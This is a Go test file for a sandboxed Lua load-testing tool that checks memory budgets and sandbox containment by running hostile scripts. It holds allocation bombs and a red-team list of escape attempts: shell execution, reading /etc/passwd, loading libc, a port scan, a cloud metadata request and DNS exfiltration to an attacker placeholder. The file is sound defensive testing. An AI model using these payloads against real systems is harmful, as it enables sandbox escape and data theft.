package main

import (
	"bytes"
	"context"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"
)

// boundsBudget is the --script-memory of the bound tests: small, so that
// the bombs end fast, and the bound on the child's peak resident size
// is 2 × budget + 64 MiB (issue 15).
const (
	boundsBudget = 64 << 20
	boundsPeak   = 2*boundsBudget + 64<<20
)

// boundsCase is one hostile script run by a child wrkrun with the lint
// gate off (every one of them would be refused by the linter first).
type boundsCase struct {
	name   string
	script string
	exit   int    // 1: script error or budget; 4: refused by the target policy
	stderr string // regexp the last stderr line matches
	flags  []string
}

// memoryBudgetMsg is the watchdog's message; "not enough memory" is a
// library function (string.rep, "..", table.concat, ...) refusing a result
// past its size limit before allocating it, as LuaJIT words it.
const memoryBudgetMsg = `memory budget of 64 MiB exceeded \(--script-memory\)|not enough memory`

// allocationBombs are the allocation bombs: each must end with the
// budget message (or a library's refusal) and exit 1, within the peak.
var allocationBombs = []boundsCase{
	{name: "concat doubling", script: `function init() local s = "x" while true do s = s .. s end end`},
	{name: "concat of 40 operands", script: `function init() local s = string.rep("x", 8*1024*1024)
local t = s..s..s..s..s..s..s..s..s..s..s..s..s..s..s..s..s..s..s..s..s..s..s..s..s..s..s..s..s..s..s..s..s..s..s..s..s..s..s..s end`},
	{name: "string.rep many times", script: `function init() local t = {} for i = 1, 1000 do t[i] = string.rep("x", 8*1024*1024 + i) end end`},
	{name: "string.rep huge", script: `function init() local s = string.rep("ab", 2^30) end`},
	{name: "table.concat", script: `function init() local t = {} local s = string.rep("x", 1024*1024) for i = 1, 4000 do t[i] = s end local r = table.concat(t) end`},
	{name: "string.format widths", script: `function init() local t = {} for i = 1, 1e5 do t[i] = string.format("%099d%s", i, string.rep("y", 1024*1024)) end end`},
	{name: "string.format argument indexes", script: `function init() local s = string.rep("x", 8*1024*1024)
local r = string.format("%[1]s%[1]s%[1]s%[1]s%[1]s%[1]s%[1]s%[1]s%[1]s%[1]s", s) end`, stderr: `invalid option '%\[' to 'format'`},
	{name: "gsub expansion", script: `function init() local s = string.rep("x", 1024*1024) local r = s:gsub("x", string.rep("y", 1000)) end`},
	{name: "table growth", script: `function init() local t = {} while true do t[#t+1] = {} end end`},
	{name: "table growth by insert", script: `function init() local t = {} while true do table.insert(t, {}) end end`},
	{name: "sparse table stores", script: `function init() local t = {} t[3e7] = 1 local u = {} u[6e7] = 1
local v = {} v[2097151] = 1 local w = {} for i = 1, 100 do w[i] = {} w[i][2097000] = 1 end end`},
	{name: "coroutine flood", script: `function init() local t = {} while true do t[#t+1] = coroutine.create(function() end) end end`},
	{name: "closure flood", script: `function init() local t = {} while true do local x = #t t[#t+1] = function() return x end end end`},
	{name: "cjson.decode of a wide document", script: `local cjson = require("cjson")
function init() local v = cjson.decode("[" .. string.rep("[],", 4*1024*1024) .. "[]]") end`},
	{name: "cjson.encode of a wide table", script: `local cjson = require("cjson")
function init() local t = {} local s = string.rep("\1", 1024*1024) for i = 1, 100 do t[i] = s end local r = cjson.encode(t) end`,
		stderr: `Cannot serialise: result exceeds the sandbox limit of 16 MiB`},
	{name: "wrk.format with huge headers", script: `function init() local h = {} local v = string.rep("v", 1024*1024)
for i = 1, 5000 do h["X-" .. i] = v end local r = wrk.format("GET", "/", h) end`,
		stderr: `wrk.format: the request would be longer than 16 MiB`},
	{name: "thread:set of a big table", script: `function setup(thread) local t = {} for i = 1, 3000000 do t[i] = {i} end thread:set("big", t) end`},
	{name: "thread:set repeated", script: `function setup(thread) local t = {} for i = 1, 100000 do t[i] = {i} end
for i = 1, 1000 do thread:set("v" .. i, t) end end`},
	{name: "response bodies kept", script: `local keep = {} function response(s, h, b) keep[#keep+1] = b .. string.rep("x", 8*1024*1024) end`,
		flags: []string{"-d", "20s"}},
}

// redTeam are sandbox attempts: escapes, crashes and network routes.
// Each asserts that the attempt worked, so that a working escape ends in
// exit 0 (or a run) and fails the test.
var redTeam = []boundsCase{
	{name: "os.execute", script: `assert(os.execute("id"))`, stderr: `attempt to call|denied|nil|is removed by the wrkrun sandbox`},
	{name: "io.popen", script: `assert(io.popen("id"))`, stderr: `attempt to call|denied|nil|is removed by the wrkrun sandbox`},
	{name: "io.open of /etc/passwd", script: `assert(io.open("/etc/passwd"))`, stderr: `denied|not allowed|assertion failed`},
	{name: "dofile", script: `dofile("/etc/passwd")`, stderr: `attempt to call|denied|nil|is removed by the wrkrun sandbox`},
	{name: "loadstring", script: `assert(loadstring("return 1"))()`, stderr: `attempt to call|denied|nil|is removed by the wrkrun sandbox`},
	{name: "load with a reader", script: `assert(load(function() return nil end))`, stderr: `attempt to call|denied|nil|is removed by the wrkrun sandbox`},
	{name: "require of a C module", script: `require("socket.core")`, stderr: `not available in wrkrun: it is a C module`},
	{name: "network through the built-in socket", script: `require("socket").connect("127.0.0.1", 80)`, stderr: `socket.connect is removed by the wrkrun sandbox`},
	{name: "package.loadlib", script: `assert(package.loadlib("libc.so.6", "system"))`, stderr: `attempt to index|attempt to call|denied|nil`},
	{name: "require through package.path", script: `package.path = "/etc/?" require("passwd")`, stderr: `not available in the wrkrun sandbox`},
	{name: "debug library", script: `assert(debug.getregistry)()`, stderr: `attempt to index|nil|is removed by the wrkrun sandbox`},
	{name: "environment through getfenv", script: `assert(getfenv(0).os.execute)("id")`, stderr: `attempt to call|attempt to index|nil|assertion failed|is removed by the wrkrun sandbox`},
	{name: "os.getenv", script: `assert(os.getenv("HOME"))`, stderr: `denied|assertion failed`},
	{name: "string.format of Go structs", script: `print(string.format("%#v", {}))`, stderr: `invalid option '%#v' to 'format'`},
	{name: "chunk size overflow in the start-up check", script: `function request()
return "POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nfffffffffffffffff0\r\nabc\r\n0\r\n\r\n" end`,
		stderr: `invalid character in content-length header`},
	{name: "content length overflow in the start-up check", script: `function request()
return "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999999999999999\r\n\r\n" end`,
		stderr: `invalid character in content-length header`},
	{name: "cjson self-reference past a huge max depth", script: `local cjson = require("cjson")
cjson.encode_max_depth(2^31-1) local t = {} t[1] = t print(cjson.encode(t))`, stderr: `excessive nesting \(1001\)`},
	{name: "cjson.decode of deep nesting", script: `local cjson = require("cjson")
cjson.decode_max_depth(2^31-1) cjson.decode(string.rep("[", 1e6))`, stderr: `too many nested data structures \(1001\)`},
	{name: "thread:set of a deep table", script: `function setup(thread) local t = {} for i = 1, 1e5 do t = {t} end thread:set("d", t) end`,
		stderr: `nested more than 200 levels`},
	{name: "thread:set of a cyclic table", script: `function setup(thread) local t = {} t.t = t thread:set("c", t) error("copied") end`,
		stderr: `copied`},
	{name: "deep recursion", script: `local function f(n) return 1 + f(n + 1) end f(1)`, stderr: `stack overflow`},
	{name: "nested coroutines", script: `local function f(n) return coroutine.wrap(function() return f(n + 1) end)() end f(1)`,
		stderr: `stack overflow|C stack overflow|memory budget|not enough memory|too many`},
	{name: "pathological gsub", script: `local s = string.rep("a", 1e6) s:gsub("(a*)*b", "")`, stderr: `too complex`},
	{name: "gmatch on a large input", script: `local n = 0 for w in string.rep("ab ", 1e6):gmatch("%a+") do n = n + 1 end error("n=" .. n)`,
		stderr: `not enough memory|n=1000000|ran longer than the script timeout`},
	{name: "huge unpack range", script: `print(select("#", unpack({}, 1, 1e8)))`, stderr: `too many results to unpack`},
	{name: "runaway loop", script: `while true do end`, stderr: `ran longer than the script timeout`, flags: []string{"--script-timeout", "300ms"}},
	{name: "wrk.connect port scan", script: `for p = 1, 1024 do wrk.connect(wrk.lookup("127.0.0.1", tostring(p))[1]) end`,
		exit: 4, stderr: `refused by the target policy`},
	{name: "load sent to another private host", script: `function setup(thread) thread.addr = wrk.lookup("10.1.2.3", "80")[1] end`,
		exit: 4, stderr: `refused by the target policy`},
	{name: "cloud metadata address", script: `function setup(thread) thread.addr = wrk.lookup("169.254.169.254", "80")[1] end`,
		exit: 4, stderr: `refused by the target policy`},
	{name: "DNS exfiltration", script: `wrk.lookup("secret.attacker.example", "80")`, exit: 4, stderr: `refused by the target policy`},
}

// TestAllocationBombsBounded runs every allocation bomb in a child wrkrun
// with a 64 MiB budget and checks the exit status, the message and the
// child's peak resident size (getrusage's ru_maxrss, the VmHWM of the
// process).
func TestAllocationBombsBounded(t *testing.T) {
	// Not parallel with the other tests: the watchdog samples the heap,
	// and beside full-speed runs a late sample lets a bomb grow past the
	// peak bound. The bombs run side by side among themselves.
	for _, tc := range allocationBombs {
		tc.exit = 1
		if tc.stderr == "" {
			tc.stderr = memoryBudgetMsg
		}
		runBoundsCase(t, tc)
	}
}

// TestRedTeamContained runs the sandbox attempts: each ends with its
// error and exit 1 or 4, within the same peak, and never with a Go crash.
func TestRedTeamContained(t *testing.T) {
	t.Parallel()
	for _, tc := range redTeam {
		if tc.exit == 0 {
			tc.exit = 1
		}
		runBoundsCase(t, tc)
	}
}

func runBoundsCase(t *testing.T, tc boundsCase) {
	t.Helper()
	t.Run(tc.name, func(t *testing.T) {
		if testing.Short() {
			t.Skip("starts a wrkrun process")
		}
		t.Parallel()
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			_, _ = w.Write([]byte("ok"))
		}))
		t.Cleanup(srv.Close)
		script := filepath.Join(t.TempDir(), "hostile.lua")
		if err := os.WriteFile(script, []byte(tc.script), 0o600); err != nil {
			t.Fatal(err)
		}
		// The script timeout only stops a bomb that neither the budget
		// nor a library limit stopped. Under the race detector the
		// cjson.encode bomb alone took 17-29 s of a loaded machine to
		// reach its 16 MiB limit (2 s without it).
		timeout := "20s"
		if raceEnabled {
			timeout = "90s"
		}
		args := append([]string{"--require-lint=false", "--script-memory", "64M", "--script-timeout", timeout,
			"-t1", "-c1", "-d1s"}, tc.flags...)
		args = append(args, "-s", script, srv.URL+"/")
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
		defer cancel()
		cmd := exec.CommandContext(ctx, os.Args[0], args...) //nolint:gosec // our own binary
		cmd.Env = append(os.Environ(), asMainEnv+"=1")
		var stdout, stderr bytes.Buffer
		cmd.Stdout, cmd.Stderr = &stdout, &stderr
		err := cmd.Run()
		if ctx.Err() != nil {
			t.Fatalf("still running after 2 minutes; stderr:\n%s", stderr.String())
		}
		code := cmd.ProcessState.ExitCode()
		peak := cmd.ProcessState.SysUsage().(*syscall.Rusage).Maxrss << 10 // KiB on Linux
		t.Logf("exit %d, peak RSS %d MiB", code, peak>>20)
		errText := stderr.String()
		if strings.Contains(errText, "goroutine ") || strings.Contains(errText, "fatal error") || strings.Contains(errText, "panic:") {
			t.Fatalf("Go crash:\n%s", errText)
		}
		if code != tc.exit {
			t.Errorf("exit %d (%v), want %d; stderr:\n%s", code, err, tc.exit, errText)
		}
		lines := strings.Split(strings.TrimSpace(errText), "\n")
		if last := lines[len(lines)-1]; !regexp.MustCompile(tc.stderr).MatchString(last) {
			t.Errorf("last stderr line %q, want it to match %q", last, tc.stderr)
		}
		// The race detector's shadow memory is several times the heap:
		// the bound is checked in ordinary runs (CI runs both).
		if peak > boundsPeak && !raceEnabled {
			t.Errorf("peak RSS %d MiB, want at most %d MiB (2 × budget + 64 MiB)", peak>>20, boundsPeak>>20)
		}
	})
}
